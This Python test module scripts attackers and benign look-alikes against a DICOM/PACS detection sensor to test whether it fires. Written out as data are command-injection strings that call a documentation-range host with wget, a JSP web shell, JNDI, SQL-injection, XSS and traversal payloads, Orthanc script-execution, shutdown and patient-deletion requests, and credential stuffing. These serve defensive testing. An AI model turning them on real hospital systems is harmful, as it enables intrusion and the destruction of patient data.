"""A scripted intruder for each technique, and somebody alike who isn't one.

Each takes a `Target` and plays against it with sockets of its own, pynetdicom, DCMTK, nmap or an HTTP client. They
need nothing of pytest and know nothing of the sensor: what they need of the archive they ask it. Those of
``TRIGGERS`` do what the technique is; those of ``PASSES`` come near it, and don't.
"""

from __future__ import annotations

import base64
import contextlib
import gzip
import http.client
import json
import re
import shutil
import socket
import ssl
import subprocess
import time
from collections.abc import Callable, Iterable
from concurrent.futures import ThreadPoolExecutor
from typing import Any, NamedTuple

from pydicom.dataset import Dataset
from pynetdicom import build_context

from tests.analyst.uploads import DEFLATED, SC, bomb, clean_ct, part10, tampered, with_preamble, with_wrong_codec
from tests.sensor.scu import (
    PATIENT_FIND,
    STUDY_FIND,
    STUDY_GET,
    STUDY_MOVE,
    SYNTAXES,
    VERIFICATION,
    WORKLIST,
    Received,
    associate,
    encoded,
    find,
    get,
    keys,
    store_bytes,
)

PATIENCE = 30.0
"""Seconds that an answer may take."""
GET_CLASSES = ("1.2.840.10008.5.1.4.1.1.2", "1.2.840.10008.5.1.4.1.1.4", "1.2.840.10008.5.1.4.1.1.1.1")
BORING = "1.2.840.10008.5.1.4.1.1."
ORTHANC = ("orthanc", "orthanc")


class Target(NamedTuple):
    """What is attacked. A port that is 0 isn't there."""

    host: str
    dicom: int
    web: int = 0
    web_tls: int = 0
    called: str = "ANY-SCP"

    @property
    def address(self) -> tuple[str, int]:
        return self.host, self.dicom


Intruder = Callable[[Target], None]


class Part(NamedTuple):
    """Somebody's part, and the persona that it is meant for."""

    play: Intruder
    persona: str = "plain"


class Answer(NamedTuple):
    """Of HTTP."""

    status: int
    headers: dict[str, str]
    body: bytes


# Means


def connected(target: Target, port: int | None = None) -> socket.socket:
    """A connection to the DICOM port, or another."""
    return socket.create_connection((target.host, target.dicom if port is None else port), PATIENCE)


def sent(target: Target, data: bytes, port: int | None = None, wait: float = 1.0) -> bytes:
    """What comes for some bytes within `wait` seconds of silence."""
    found = b""
    with connected(target, port) as sock:
        sock.sendall(data)
        sock.settimeout(wait)
        try:
            while more := sock.recv(65536):
                found += more
        except OSError:
            pass
    return found


def asked(
    target: Target,
    method: str,
    path: str,
    body: bytes | str | dict[str, Any] | None = None,
    user: tuple[str, str] | None = None,
    **headers: str,
) -> Answer:
    """One HTTP request on a connection of its own; `path` goes out as it stands there."""
    fields = {name.replace("_", "-"): value for name, value in headers.items()}
    if user is not None:
        fields["Authorization"] = "Basic " + base64.b64encode(":".join(user).encode()).decode()
    data = json.dumps(body).encode() if isinstance(body, dict) else body.encode() if isinstance(body, str) else body
    connection = http.client.HTTPConnection(target.host, target.web, timeout=PATIENCE)
    try:
        connection.request(method, path, data, fields)
        response = connection.getresponse()
        return Answer(response.status, dict(response.getheaders()), response.read())
    finally:
        connection.close()


def tool(name: str, *arguments: object) -> None:
    """Run somebody else's program to its end, whatever that is. Raises FileNotFoundError where there is none."""
    path = shutil.which(name)
    if path is None:
        raise FileNotFoundError(name)
    subprocess.run(
        [path, *map(str, arguments)],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        timeout=100,
        check=False,
    )


def request_pdu(called: str = "ANY-SCP", calling: str = "ECHOSCU", reserved: bytes = bytes(32)) -> bytes:
    """An A-ASSOCIATE-RQ for Verification, as nmap's (PS3.8 9.3.2)."""

    def item(kind: int, data: bytes) -> bytes:
        return bytes((kind, 0)) + len(data).to_bytes(2, "big") + data

    context = item(0x30, VERIFICATION.encode()) + item(0x40, b"1.2.840.10008.1.2")
    user = item(0x51, (16384).to_bytes(4, "big")) + item(0x52, b"1.2.276.0.7230010.3.0.3.6.2")
    user += item(0x55, b"OFFIS_DCMTK_362")
    body = b"\0\1\0\0" + called.encode().ljust(16) + calling.encode().ljust(16) + reserved
    body += item(0x10, b"1.2.840.10008.3.1.1.1") + item(0x20, b"\1\0\0\0" + context) + item(0x50, user)
    return b"\1\0" + len(body).to_bytes(4, "big") + body


def probe(target: Target, called: str = "ANY-SCP", calling: str = "ECHOSCU") -> bytes:
    """An association, and nothing with it; the first bytes of the answer."""
    with connected(target) as sock:
        sock.sendall(request_pdu(called, calling))
        return sock.recv(4096)


def studies(target: Target, most: int) -> list[str]:
    """UIDs of some studies."""
    with associate(target.address, [STUDY_FIND], called=target.called) as association:
        matches, _ = find(association, keys(QueryRetrieveLevel="STUDY", StudyInstanceUID="", ModalitiesInStudy="CT"))
    return [str(match.StudyInstanceUID) for match in matches[:most]]


def stored(target: Target, data: Dataset, sop_class: str, raw: bytes | None = None, syntax: str = "") -> None:
    """C-STORE of a data set; `raw`: these bytes instead."""
    context = build_context(sop_class, [syntax or SYNTAXES[1]])
    with associate(target.address, [context], called=target.called) as association:
        accepted = association.accepted_contexts[0]
        store_bytes(association, accepted, sop_class, str(data.SOPInstanceUID), raw or encoded(data))


def posted(target: Target, path: str, files: Iterable[tuple[str, str, bytes]], **headers: str) -> Answer:
    """STOW-RS: parts with (name, type, bytes)."""
    lines = b""
    for name, kind, data in files:
        disposition = f'Content-Disposition: attachment; filename="{name}"\r\n' if name else ""
        lines += f"--frontier\r\nContent-Type: {kind}\r\n{disposition}\r\n".encode() + data + b"\r\n"
    return asked(
        target,
        "POST",
        path,
        lines + b"--frontier--\r\n",
        Content_Type='multipart/related; type="application/dicom"; boundary=frontier',
        **headers,
    )


# D01 to D07: who looks


def touch(target: Target) -> None:
    connected(target).close()
    with connected(target) as sock:
        time.sleep(0.2)
        sock.shutdown(socket.SHUT_RDWR)


def confused(target: Target) -> None:
    for data in (
        b"GET / HTTP/1.0\r\n\r\n",
        b"SSH-2.0-Go\r\n",
        b"\x03\x00\x00\x2a\x25\xe0\x00\x00\x00\x00\x00Cookie: mstshash=eltons\r\n\x01\x00\x08\x00\x00\x00\x00\x00",
        b"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm;branch=foo\r\n\r\n",
    ):
        sent(target, data, wait=0.3)


def associated_only(target: Target) -> None:
    probe(target)


def echoed(target: Target) -> None:
    for calling in ("ECHOSCU", "ECHOSCU", "AIMAP"):
        with associate(target.address, [VERIFICATION], title=calling) as association:
            association.send_c_echo()


def found_after_echo(target: Target) -> None:
    with associate(target.address, [VERIFICATION, STUDY_FIND]) as association:
        association.send_c_echo()
        find(association, keys(QueryRetrieveLevel="STUDY", PatientID="NOBODY1", StudyInstanceUID=""))


def many_contexts(target: Target) -> None:
    contexts = [build_context(f"{BORING}{number}") for number in (1, 2, 4, 7, 20, 66, 128, 129)]
    contexts += [build_context(f"{BORING}{kind}") for kind in ("1.1", "1.2", "1.3", "2.1", "2.2", "3.1", "4.1")]
    contexts += [build_context(f"{BORING}{kind}") for kind in ("6.1", "6.2", "7.1", "7.2", "9.1.1", "9.1.2", "11.1")]
    with associate(target.address, contexts, title="NMAP-INFO"):
        pass


def getscu(target: Target) -> None:
    """DCMTK proposes 121 contexts and uses them."""
    study = studies(target, 1)[0]
    arguments = ("-S", "-aet", "GETSCU", "-aec", target.called, "--ignore", "-k", "0008,0052=STUDY")
    tool("getscu", *arguments, "-k", f"0020,000D={study}", target.host, target.dicom)


def guessed_titles(target: Target) -> None:
    for called in ("ANY-SCP", "123456", "12345", "password", "iloveyou", "princess", "rockyou"):
        probe(target, called)


def mistyped_title(target: Target) -> None:
    probe(target, "PACS1X", "CTCONSOLE")
    with associate(target.address, [VERIFICATION], called=target.called, title="CTCONSOLE") as association:
        association.send_c_echo()


def vendors_titles(target: Target) -> None:
    for called in ("ORTHANC", "DCM4CHEE", "CONQUESTSRV1", "HOROS"):
        probe(target, called)


# D08 to D14: who reads and writes


def everybody(target: Target) -> None:
    with associate(target.address, [STUDY_FIND], title="FINDSCU") as association:
        wanted = keys(QueryRetrieveLevel="STUDY", PatientName="*", PatientID="", StudyInstanceUID="", StudyDate="")
        find(association, wanted)


def one_patient(target: Target) -> None:
    with associate(target.address, [STUDY_FIND], title="WS1") as association:
        wanted = keys(QueryRetrieveLevel="STUDY", PatientName="", PatientID="P100200", StudyInstanceUID="")
        find(association, wanted)


def paged(target: Target) -> None:
    with associate(target.address, [STUDY_FIND], title="FINDSCU") as association:
        for month in range(1, 8):
            between = f"2024{month:02}01-2024{month:02}28"
            find(association, keys(QueryRetrieveLevel="STUDY", StudyDate=between, PatientName="", PatientID=""))


def two_days(target: Target) -> None:
    with associate(target.address, [STUDY_FIND], title="WS1") as association:
        for day in ("20240610", "20240611", "20240610"):
            find(association, keys(QueryRetrieveLevel="STUDY", StudyDate=day, PatientName="", PatientID=""))


def _step(**values: str) -> Dataset:
    step = keys(**dict.fromkeys(("Modality", "ScheduledStationAETitle", "ScheduledProcedureStepStartDate"), ""))
    for name, value in values.items():
        setattr(step, name, value)
    return keys(PatientName="", PatientID="", AccessionNumber="", ScheduledProcedureStepSequence=[step])


def whole_worklist(target: Target) -> None:
    with associate(target.address, [WORKLIST], title="FINDSCU") as association:
        find(association, _step(), WORKLIST)


def own_worklist(target: Target) -> None:
    with associate(target.address, [WORKLIST], title="CT01") as association:
        find(association, _step(Modality="CT", ScheduledProcedureStepStartDate="20240610"), WORKLIST)


def crawled(target: Target) -> None:
    with associate(target.address, [PATIENT_FIND], title="CRAWL") as association:

        def ask(level: str, **more: str) -> list[Dataset]:
            return find(association, keys(QueryRetrieveLevel=level, **more), PATIENT_FIND)[0]

        patient = ask("PATIENT", PatientID="", PatientName="A*")[0].PatientID
        study = ask("STUDY", PatientID=patient, StudyInstanceUID="")[0].StudyInstanceUID
        series = ask("SERIES", PatientID=patient, StudyInstanceUID=study, SeriesInstanceUID="")[0].SeriesInstanceUID
        ask("IMAGE", PatientID=patient, StudyInstanceUID=study, SeriesInstanceUID=series, SOPInstanceUID="")


def looked_into_one(target: Target) -> None:
    study = studies(target, 1)[0]
    with associate(target.address, [STUDY_FIND], title="WS1") as association:
        find(association, keys(QueryRetrieveLevel="SERIES", StudyInstanceUID=study, SeriesInstanceUID=""))


def _fetch(target: Target, wanted: Iterable[str]) -> None:
    received = Received()
    contexts = [STUDY_GET, *GET_CLASSES]
    with associate(
        target.address, contexts, scp=GET_CLASSES, handlers=[received.handler], title="GETSCU"
    ) as association:
        for study in wanted:
            get(association, keys(QueryRetrieveLevel="STUDY", StudyInstanceUID=study))


def fetched_many(target: Target) -> None:
    _fetch(target, studies(target, 6))


def fetched_one(target: Target) -> None:
    _fetch(target, studies(target, 1))


def moved(target: Target) -> None:
    study = studies(target, 1)[0]
    with associate(target.address, [STUDY_MOVE], title="MOVESCU") as association:
        wanted = keys(QueryRetrieveLevel="STUDY", StudyInstanceUID=study)
        list(association.send_c_move(wanted, "EVILSCP", STUDY_MOVE))


def stored_junk(target: Target) -> None:
    data = clean_ct()
    data.SOPInstanceUID = "1.2.3.4.5.99999.1764000000.123456"
    data.PatientName = "TEST^NMAP"
    stored(target, data, data.SOPClassUID)


def stored_ct(target: Target) -> None:
    data = clean_ct()
    stored(target, data, data.SOPClassUID)


# D15 to D22: what is left, and what is meant by it


def polyglot(target: Target) -> None:
    asked(target, "POST", "/instances", with_preamble(b"MZ\x90\0\3\0\0\0\4"), ORTHANC)


def plain_file(target: Target) -> None:
    asked(target, "POST", "/instances", part10(clean_ct()), ORTHANC)


def changed_image(target: Target) -> None:
    received = Received()
    study = studies(target, 1)[0]
    with associate(
        target.address, [STUDY_GET, *GET_CLASSES], scp=GET_CLASSES, handlers=[received.handler]
    ) as association:
        get(association, keys(QueryRetrieveLevel="STUDY", StudyInstanceUID=study))
    data, syntax = next(iter(received.objects.values()))
    changed = tampered(data, syntax)
    stored(target, changed, str(changed.SOPClassUID))


def traversed(target: Target) -> None:
    with associate(target.address, [STUDY_FIND]) as association:
        wanted = keys(QueryRetrieveLevel="STUDY", PatientID="../../../../etc/passwd", StudyInstanceUID="")
        find(association, wanted)
    data = clean_ct()
    raw = encoded(data)
    context = build_context(str(data.SOPClassUID), [SYNTAXES[1]])
    with associate(target.address, [context]) as association:
        accepted = association.accepted_contexts[0]
        store_bytes(association, accepted, str(data.SOPClassUID), "1.2.840.99/../../../tmp/x", raw)


def several_uids(target: Target) -> None:
    """A list of UIDs has backslashes, and is no path."""
    with associate(target.address, [STUDY_FIND]) as association:
        wanted = keys(QueryRetrieveLevel="STUDY", StudyInstanceUID=studies(target, 2), PatientID="A/12.3")
        find(association, wanted)


def _queried(target: Target, **wanted: str) -> None:
    with associate(target.address, [STUDY_FIND]) as association:
        find(association, keys(QueryRetrieveLevel="STUDY", StudyInstanceUID="", **wanted))


def scripted(target: Target) -> None:
    _queried(target, PatientName="<script src=//x.example/a></script>")
    _queried(target, ReferringPhysicianName='"><img src=x onerror=alert(1)>')


def less_than(target: Target) -> None:
    _queried(target, PatientName="O<NEILL^ONE=1", StudyDescription="Thorax < 3 mm")


def jndi(target: Target) -> None:
    _queried(target, PatientName="${jndi:ldap://198.51.100.7/a}")
    probe(target, calling="{{7*7}}")


def braces(target: Target) -> None:
    _queried(target, PatientName="MEIER^{ANNA}", StudyDescription="$5 contrast {low}")


def injected(target: Target) -> None:
    _queried(target, PatientID="' OR '1'='1' --")
    asked(target, "GET", "/dicom-web/studies?PatientID=1%27%20UNION%20SELECT%20name%20FROM%20sqlite_master--")


def apostrophe(target: Target) -> None:
    _queried(target, PatientName="O'ORRAN^ANDREW; SELMA", PatientID="0815")


def commanded(target: Target) -> None:
    _queried(target, PatientName="a;wget http://198.51.100.7/x.sh")
    _queried(target, PatientID="$(id)")


def semicolon(target: Target) -> None:
    _queried(target, PatientName="IDA; CATHERINE", StudyDescription="Head & neck; shoulder")


def bombed(target: Target) -> None:
    asked(target, "POST", "/instances", gzip.compress(bytes(1 << 20)), ORTHANC, Content_Encoding="gzip")


def deflated(target: Target) -> None:
    """An honest object in Deflated Explicit VR."""
    raw, data = bomb(repeated=1)
    stored(target, data, SC, raw, DEFLATED)


# D23 to D27: who breaks things


def oversized(target: Target) -> None:
    sent(target, b"\1\0\x7f\xff\xff\xff\0\1\0\0" + b"ANY-SCP".ljust(16) + b"ECHOSCU".ljust(16) + bytes(64), wait=0.5)
    with connected(target) as sock:
        sock.sendall(request_pdu())
        sock.recv(4096)
        sock.sendall(b"\4\0\0\0\0\x0a\xff\xff\xff\xff\1\3\0\0\0\0")
        sock.recv(4096)


def long_request(target: Target) -> None:
    """17 KiB of contexts, as getscu has them."""
    contexts = [build_context(f"{BORING}{number}", [*SYNTAXES, DEFLATED]) for number in range(1, 40)]
    with associate(target.address, [*contexts, VERIFICATION]) as association:
        association.send_c_echo()


def slow(target: Target) -> None:
    def one(_: int) -> None:
        with connected(target) as sock:
            sock.sendall(request_pdu()[:40])
            sock.settimeout(PATIENCE)
            try:
                while sock.recv(4096):
                    pass
            except OSError:
                pass

    with ThreadPoolExecutor(12) as pool:
        list(pool.map(one, range(12)))


def hesitated(target: Target) -> None:
    with connected(target) as sock:
        data = request_pdu()
        for at in range(0, len(data), 64):
            sock.sendall(data[at : at + 64])
            time.sleep(0.05)
        sock.recv(4096)


def fuzzed(target: Target) -> None:
    whole = request_pdu()
    for at, byte in ((74, 0x7F), (76, 0xFF), (78, 0xFF), (102, 0xFF), (104, 0xEE), (112, 0xFE)):
        sent(target, whole[:at] + bytes((byte,)) + whole[at + 1 :], wait=0.3)
    for data in (
        b"\4\0\0\0\0\6\0\0\0\2\1\3",
        b"\4\0\0\0\0\4\0\0\0\1",
        b"\2\0\0\0\0\2\0\0",
        b"\4\0\0\0\0\6\0\0\0\2\3\3",
    ):
        with connected(target) as sock:
            sock.sendall(whole)
            sock.recv(4096)
            sock.sendall(data)
            sock.settimeout(0.3)
            with contextlib.suppress(OSError):
                sock.recv(4096)


def broke_off(target: Target) -> None:
    with connected(target) as sock:
        sock.sendall(request_pdu())
        sock.recv(4096)
        sock.sendall(b"\4\0\0\0\0\6\0\0\0\2\1\3")
        sock.settimeout(0.5)
        with contextlib.suppress(OSError):
            sock.recv(4096)


def overran(target: Target) -> None:
    data = with_wrong_codec()
    stored(target, data, str(data.SOPClassUID), syntax="1.2.840.10008.1.2.5")


def shook_hands(target: Target) -> None:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with connected(target, target.web_tls) as sock, context.wrap_socket(sock):
        pass


def browsed_tls(target: Target) -> None:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    connection = http.client.HTTPSConnection(target.host, target.web_tls, context=context, timeout=PATIENCE)
    connection.request("GET", "/")
    connection.getresponse().read()
    connection.close()


# D28 to D37: the web


def stuffed(target: Target) -> None:
    pairs = (("admin", "letmein"), ("root", "toor"), ("pacs", "pacs1"), ("user", "12345"), ("admin", "admin"))
    for pair in (*pairs, ("radiology", "radiology1")):
        asked(target, "GET", "/system", user=pair)


def mistyped(target: Target) -> None:
    asked(target, "GET", "/app/explorer.html")
    asked(target, "GET", "/app/explorer.html", user=("k.whitfield", "Sumer2026"))


def enumerated(target: Target) -> None:
    asked(target, "GET", "/dicom-web/studies?limit=1")
    asked(target, "GET", "/dicom-web/studies?includefield=all&limit=20")
    for path in ("/orthanc/", "/dcm4chee-arc/aets", "/wado?requestType=WADO", "/system"):
        asked(target, "GET", path)


def asked_for_one(target: Target) -> None:
    asked(target, "GET", "/dicom-web/studies?PatientID=P100200&limit=5")


def web_shell(target: Target) -> None:
    shell = b'<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>'
    posted(target, "/dicom-web/studies", [("up.jsp", "text/plain", shell), ("a.php", "text/x-php", b"<?php 1;")])


def stowed(target: Target) -> None:
    posted(target, "/dicom-web/studies", [("ct.dcm", "application/dicom", part10(clean_ct()))])


def abused(target: Target) -> None:
    asked(target, "POST", "/tools/execute-script", 'print(os.execute("id"))', ORTHANC)
    asked(target, "PUT", "/modalities/x", '["EVIL", "198.51.100.7", 4242]', ORTHANC)
    asked(target, "POST", "/tools/shutdown", "", ORTHANC)


def searched(target: Target) -> None:
    wanted = {"Level": "Study", "Query": {"PatientID": "P100200"}, "Expand": True}
    asked(target, "POST", "/tools/find", wanted, ORTHANC)


def wiped(target: Target) -> None:
    listed = json.loads(asked(target, "GET", "/patients?limit=4&since=0", user=ORTHANC).body)
    for patient in listed[:4]:
        asked(target, "DELETE", f"/patients/{patient}", user=ORTHANC)
    note = clean_ct()
    note.PatientName = "READ^ME"
    asked(target, "POST", "/instances", part10(note), ORTHANC)


def deleted_own(target: Target) -> None:
    """Somebody takes back what he sent."""
    answer = json.loads(asked(target, "POST", "/instances", part10(clean_ct()), ORTHANC).body)
    asked(target, "DELETE", f"/instances/{answer['ID']}", user=ORTHANC)


def hl7(target: Target) -> None:
    message = "MSH|^~\\&|LAB|X|ADT|Y|20260101||QRY^A19|1|P|2.3\rQRD|20260101|R|I|1|||1^RD|DOE^JOHN|DEM\r"
    sent(target, b"\x0b" + message.encode() + b"\x1c\r", wait=0.5)
    sent(target, b"\x0b" + message.encode() + b"\x1c\r", target.web, wait=0.5)


def pipes(target: Target) -> None:
    sent(target, b"a|b|c|d\r\n", wait=0.5)


def fhir(target: Target) -> None:
    for path in ("/fhir/metadata", "/fhir/Patient?_count=100", "/baseR4/Patient/1/$everything", "/Patient/$export"):
        asked(target, "GET", path)


def study_metadata(target: Target) -> None:
    study = studies(target, 1)[0]
    asked(target, "GET", f"/dicom-web/studies/{study}/series?limit=1")
    asked(target, "GET", "/dicom-web/studies?PatientID=P100200")


def mirth(target: Target) -> None:
    body = (
        "<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy>"
    )
    headers = {"X_Requested_With": "OpenAPI", "Content_Type": "application/xml"}
    asked(target, "GET", "/api/server/version", X_Requested_With="OpenAPI")
    asked(target, "POST", "/api/users", body + "</sorted-set>", **headers)


def looked_for_mirth(target: Target) -> None:
    asked(target, "POST", "/api/studies", "<a/>", Content_Type="application/xml")


def sprayed(target: Target) -> None:
    for path in (
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/actuator/health",
        "/boaform/admin/formLogin",
    ):
        asked(target, "GET", path)
    asked(target, "POST", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "echo;id", User_Agent="libredtail-http")


def robots(target: Target) -> None:
    for path in ("/", "/favicon.ico", "/robots.txt", "/sitemap.xml"):
        asked(target, "GET", path, User_Agent="Mozilla/5.0 zgrab/0.x")


def took_bait(target: Target) -> None:
    """Reads robots.txt as a map, and what lies there."""
    named = re.findall(r"(?m)^Disallow: (/\S+)", asked(target, "GET", "/robots.txt").body.decode("utf-8", "replace"))
    for path in named:
        page = asked(target, "GET", path).body.decode("utf-8", "replace")
        for name in re.findall(r'href="([\w%.-]+)"', page):
            asked(target, "GET", path + name)


TRIGGERS: dict[str, Part] = {
    "D01": Part(touch),
    "D02": Part(confused),
    "D03": Part(associated_only),
    "D04": Part(echoed),
    "D05": Part(many_contexts),
    "D06": Part(guessed_titles),
    "D07": Part(vendors_titles),
    "D08": Part(everybody),
    "D09": Part(paged),
    "D10": Part(whole_worklist),
    "D11": Part(crawled),
    "D12": Part(fetched_many),
    "D13": Part(moved),
    "D14": Part(stored_junk),
    "D15": Part(polyglot, "orthanc"),
    "D16": Part(changed_image),
    "D17": Part(traversed),
    "D18": Part(scripted),
    "D19": Part(jndi),
    "D20": Part(injected),
    "D21": Part(commanded),
    "D22": Part(bombed, "orthanc"),
    "D23": Part(oversized),
    "D24": Part(slow, "dcm4chee-arc"),
    "D25": Part(fuzzed),
    "D26": Part(overran),
    "D27": Part(shook_hands),
    "D28": Part(stuffed, "orthanc"),
    "D29": Part(enumerated),
    "D30": Part(web_shell),
    "D31": Part(abused, "orthanc"),
    "D32": Part(wiped, "orthanc"),
    "D33": Part(hl7),
    "D34": Part(fhir),
    "D35": Part(mirth, "orthanc"),
    "D36": Part(sprayed),
    "D37": Part(took_bait),
    "D38": Part(one_patient),
}
"""Who does what the technique is."""

PASSES: dict[str, Part] = {
    "D01": Part(associated_only),
    "D02": Part(associated_only),
    "D03": Part(found_after_echo),
    "D04": Part(found_after_echo),
    "D05": Part(getscu),
    "D06": Part(mistyped_title),
    "D07": Part(associated_only),
    "D08": Part(one_patient),
    "D09": Part(two_days),
    "D10": Part(own_worklist),
    "D11": Part(looked_into_one),
    "D12": Part(fetched_one),
    "D13": Part(fetched_one),
    "D14": Part(stored_ct),
    "D15": Part(plain_file, "orthanc"),
    "D16": Part(stored_ct),
    "D17": Part(several_uids),
    "D18": Part(less_than),
    "D19": Part(braces),
    "D20": Part(apostrophe),
    "D21": Part(semicolon),
    "D22": Part(deflated),
    "D23": Part(long_request),
    "D24": Part(hesitated, "dcm4chee-arc"),
    "D25": Part(broke_off),
    "D26": Part(stored_ct),
    "D27": Part(browsed_tls),
    "D28": Part(mistyped, "orthanc"),
    "D29": Part(asked_for_one),
    "D30": Part(stowed),
    "D31": Part(searched, "orthanc"),
    "D32": Part(deleted_own, "orthanc"),
    "D33": Part(pipes),
    "D34": Part(study_metadata),
    "D35": Part(looked_for_mirth, "orthanc"),
    "D36": Part(robots),
    "D37": Part(robots),
    "D38": Part(associated_only),
}
"""Who comes near it, and doesn't."""


# Those who look at everything every day, and mean nobody


def nmap_versions(target: Target) -> None:
    ports = ",".join(str(port) for port in (target.dicom, target.web, target.web_tls) if port)
    tool("nmap", "-Pn", "-n", "-sT", "-sV", "--version-all", "-p", ports, target.host)


def nmap_ping(target: Target) -> None:
    tool("nmap", "-Pn", "-n", "-sT", "--script", "+dicom-ping", "-p", target.dicom, target.host)


NICE = b"GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0\r\n\r\n"
PROBES = (
    b"GET / HTTP/1.0\r\n\r\n",
    b"OPTIONS / HTTP/1.0\r\n\r\n",
    NICE,
    bytes.fromhex("05000b03100000004800000001000000b810b810000000000100000000000100"),
    b"\5\1\0",
    b"\4\1\0\x50\xb9\xf7\x89\x8b\0",
    bytes.fromhex("8000002872fe1d130000000000000002000186a00001977c0000000000000000"),
    b"\x03\x00\x00\x2f\x2a\xe0\x00\x00\x00\x00\x00Cookie: mstshash=eltons\r\n\x01\x00\x08\x00\x03\x00\x00\x00",
    b"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm;branch=foo\r\nFrom: <sip:nm@nm>;tag=root\r\n\r\n",
    bytes.fromhex("001e0006010000010000000000000776657273696f6e0462696e640000100003"),
    b"l\0\x0b\0\0\0\0\0\0\0\0\0",
    bytes.fromhex("000000a4ff534d4272000000000801400000000000000000000000000000400600000100"),
    bytes.fromhex("00000054fe534d4240000000000000000000000000000000"),
    b"*1\r\n$4\r\nINFO\r\n",
    bytes.fromhex("1201003400000000000015000601001b000102001c000c0300280004ff080001"),
    bytes.fromhex("3a000000a741000000000000d40700000000000061646d696e2e24636d6400"),
    bytes.fromhex("300c020101600702010304008000"),
    bytes.fromhex("005a0000010000000136012c000008007fff7f080000000100"),
    b"\x13/multistream/1.0.0\n",
    b"fox a 1 -1 fox hello\n{\nfox.version=s:1.0\nid=i:1\n};;\n",
    b"stats\r\n",
    bytes.fromhex("f9beb4d976657273696f6e0000000000650000005f1a69d2"),
    b"HELF\x20\0\0\0\0\0\0\0\0\0\1\0\0\0\1\0",
    b"OPTIONS / RTSP/1.0\r\n\r\n",
    b"<stream:stream xmlns='jabber:client' version='1.0'>",
    bytes.fromhex("16030100750100007103035a" + "00" * 40),
    b"HELP\r\n",
    b"\r\n\r\n",
    b"\1default\n",
    bytes.fromhex("010000fdcefa0bb0a00000004d4d53"),
    b"JRMI\0\2K",
    b"GIOP\1\0\1\0\x24\0\0\0\0\0\0\0",
    b"\x10\x10\0\4MQTT\4\2\0\x3c\0\4abcd",
    b"SSH-2.0-Go\r\n",
    b"Friendly Portscanner\r\n",
)
"""What one operator's run has, and more like it: each on a connection of its own."""


def driftnet(target: Target) -> None:
    def one(what: tuple[int, bytes]) -> None:
        port, data = what
        sent(target, data, port, wait=0.5)

    probes = [(port, data) for port in (target.dicom, target.web) for data in (*PROBES, _driftnets_association())]
    with ThreadPoolExecutor(4) as pool:
        list(pool.map(one, probes))


def _driftnets_association() -> bytes:
    return request_pdu().replace(b"Q\0\0\4\0\0\x40\0", b"Q\0\0\4\0\0\0\0")


def censys(target: Target) -> None:
    for path in ("/", "/favicon.ico"):
        asked(
            target, "GET", path, User_Agent="Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"
        )
    if target.web_tls:
        shook_hands(target)
    probe(target)
    asked(target, "GET", "/.well-known/security.txt", User_Agent="Mozilla/5.0 (compatible; CensysInspect/1.1)")


def shodan(target: Target) -> None:
    touch(target)
    for path in ("/", "/robots.txt", "/sitemap.xml", "/.well-known/security.txt", "/favicon.ico"):
        asked(target, "GET", path)
    probe(target)
    echo_sweep(target)


def zgrab(target: Target) -> None:
    asked(target, "GET", "/", User_Agent="Mozilla/5.0 zgrab/0.x")
    sent(target, b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\n\r\n")


def expanse(target: Target) -> None:
    asked(
        target, "GET", "/", User_Agent="Expanse, a Palo Alto Networks company, searches across the global IPv4 space"
    )
    sent(target, NICE)
    probe(target)


def old_nmap(target: Target) -> None:
    """As nmap before 7.96, whose first reserved byte is a character."""
    with connected(target) as sock:
        sock.sendall(request_pdu(reserved=b"0".ljust(32, b"\0")))
        sock.recv(4096)


def aimap(target: Target) -> None:
    probe(target, "ORTHANC", "AIMAP")


def echo_sweep(target: Target) -> None:
    for _ in range(3):
        with associate(target.address, [VERIFICATION], title="ECHOSCU") as association:
            association.send_c_echo()


def banner(target: Target) -> None:
    with connected(target) as sock:
        sock.settimeout(2)
        with contextlib.suppress(OSError):
            sock.recv(100)
    sent(target, b"Friendly Portscanner\r\n")


def sprayer(target: Target) -> None:
    """A botnet that looks for products that aren't here."""
    sprayed(target)
    for path in (
        "/.env",
        "/.git/config",
        "/wp-login.php",
        "/phpinfo.php",
        "/server-status",
        "/HNAP1/",
        "/solr/admin",
    ):
        asked(target, "GET", path)
    asked(
        target,
        "GET",
        "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget%20http://198.51.100.9/a)",
    )
    asked(target, "GET", "/index.php?s=/Index/think/app/invokefunction&function=call_user_func_array&vars[0]=md5")
    asked(target, "GET", "/../../../../etc/passwd")


SCANNERS: dict[str, Part] = {
    "nmap-versions": Part(nmap_versions),
    "nmap-versions-orthanc": Part(nmap_versions, "orthanc"),
    "nmap-ping": Part(nmap_ping),
    "nmap-before-7.96": Part(old_nmap),
    "driftnet": Part(driftnet),
    "driftnet-orthanc": Part(driftnet, "orthanc"),
    "censys": Part(censys),
    "shodan": Part(shodan),
    "zgrab": Part(zgrab),
    "expanse": Part(expanse),
    "aimap": Part(aimap),
    "echo-sweep": Part(echo_sweep),
    "banner": Part(banner),
    "sprayer": Part(sprayer),
    "robots-orthanc": Part(robots, "orthanc"),
}
"""The daily noise: of it comes nothing but D01 to D05, D27 and D36."""
